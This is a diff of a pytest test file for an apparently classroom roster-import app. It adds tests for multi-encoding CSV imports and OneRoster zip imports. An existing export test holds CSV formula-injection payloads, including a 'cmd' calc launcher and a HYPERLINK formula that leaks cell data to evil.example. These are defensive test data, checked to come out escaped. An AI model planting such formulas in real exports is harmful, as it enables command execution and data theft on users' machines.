@@ -41,7 +41,7 @@ def test_good_file_imports_every_row(open_window, answers, qtbot, name):
 
 @pytest.mark.parametrize("name, words", [
     ("bad_missing_family_name.csv", "family_name"),
-    ("bad_latin1.csv", "UTF-8"),
+    ("bad_workbook.xlsx", "workbook"),
     ("bad_empty.csv", "empty"),
     ("bad_duplicate_ids.csv", "same"),
     ("bad_whitespace_names.csv", "Row"),
@@ -52,6 +52,18 @@ def test_bad_file_is_refused_with_a_clear_message_and_nothing_imported(open_wind
     assert answers.errors and answers.errors[-1].startswith("Nothing was imported.")
     assert words in answers.errors[-1]
     assert _learner_count(window) == 0 and window.model.rowCount() == 0
+
+
+@pytest.mark.parametrize(("name", "encoding"), [("excel_windows1252_semicolons.csv", "Windows-1252"),
+                                                ("excel_unicode_text.txt", "UTF-16"),
+                                                ("excel_csv_utf8.csv", "UTF-8 (BOM)")])
+def test_excel_saved_files_import_in_each_encoding_and_say_which(open_window, answers, qtbot, name, encoding):
+    window = open_window()
+    _import(window, answers, qtbot, ROSTERS / name)
+    assert answers.errors == []
+    assert f"Read as {encoding}: José Núñez, Zoë Müller, Siobhán O’Brien …" in answers.confirms[-1]
+    names = sorted(f"{s.given_name} {s.family_name}" for s in window.model.all_learners())
+    assert names == ["François Lefèvre", "José Núñez", "Siobhán O’Brien", "Zoë Müller"]
 
 
 def test_clash_with_stored_ids_imports_nothing(open_window, answers, qtbot, tmp_path):
@@ -149,3 +161,33 @@ def test_exported_lists_never_carry_formulas_from_imported_names(open_window, an
         "'=1+2 +cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") Okafor",
         "'@SUM(1+1)*cmd|' /C calc'!A0 Lee"], names
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+def test_import_class_takes_a_oneroster_zip_with_a_preview(open_window, answers, qtbot, tmp_path):
+    from tests import oneroster_sets as sets
+
+    window = open_window()
+    answers.file_answer = str(sets.write_zip(sets.set_11(), tmp_path / "sis.zip"))
+    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
+    qtbot.waitUntil(lambda: window.model.rowCount() == 3, timeout=20_000)
+    preview = answers.confirms[-1]
+    assert "Import sis.zip (OneRoster 1.1)?" in preview
+    for line in ("3 learner(s) added", "2 teacher(s) added", "2 class(es) added", "5 class membership(s) added"):
+        assert line in preview
+    assert "users.csv, row 2: enabledUser is “TRUE”; read as true." in preview  # as the catalogue words it
+    assert sorted(s.given_name for s in window.model.all_learners()) == ["José", "Seán", "Zoë"]
+    shown = [window.proxy.index(i, 0).data() for i in range(window.proxy.rowCount())]
+    assert "Seán O’Brien (disabled)" in shown and "Zoë Moreau" in shown  # enabledUser=false: kept, marked
+
+    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)  # the same set again
+    assert "changes nothing" in answers.infos[-1]
+
+
+def test_a_refused_oneroster_zip_imports_nothing(open_window, answers, qtbot, tmp_path):
+    from tests import oneroster_sets as sets
+
+    window = open_window()
+    files = sets.set_11()
+    del files["users.csv"]
+    answers.file_answer = str(sets.write_zip(files, tmp_path / "bad.zip"))
+    qtbot.mouseClick(window.import_button, Qt.MouseButton.LeftButton)
+    assert answers.errors and "users.csv" in answers.errors[-1] and answers.confirms == []
+    assert _learner_count(window) == 0
